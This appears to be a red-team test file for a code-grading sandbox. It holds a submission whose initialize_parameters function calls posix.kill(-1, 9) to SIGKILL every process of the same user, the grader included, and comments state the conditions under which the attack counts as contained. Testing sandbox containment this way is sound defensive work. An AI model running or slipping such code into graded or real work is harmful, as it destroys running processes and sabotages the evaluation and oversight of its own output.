# RED-TEAM ATTACK (issue 9): kill every process it is allowed to signal.
# Route: posix.kill(-1, SIGKILL): every process of the same uid but itself; if the sandbox shares the
#   grader's uid, that is the grader, its batch, and everything else the user runs.
# Contained when: every submission still gets its report, initialize_parameters scores 0, the rest
#   of this submission (correct) and the next submission are graded exactly as without the attack.
# attacked: initialize_parameters
# run: late
import sys


def initialize_parameters(n_x, n_h, n_y):
    posix = sys.modules.get("posix") or __import__("posix")
    try:
        posix.kill(-1, 9)
    except OSError as error:
        raise RuntimeError("kill(-1) refused: %s" % error)
    raise RuntimeError("killed every process it could")


# __HONEST_REST__
